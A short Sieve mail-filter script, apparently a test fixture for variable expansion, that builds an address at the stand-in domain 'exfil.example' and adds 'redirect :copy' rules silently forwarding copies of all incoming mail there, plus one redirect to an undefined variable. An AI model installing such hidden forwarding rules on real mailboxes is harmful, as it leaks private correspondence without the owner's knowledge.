require ["variables", "copy"];
set "dom" "exfil.example";
set "who" "boss";
set "addr" "${who}@${dom}";
redirect :copy "${addr}";
redirect :copy "${unknown}";
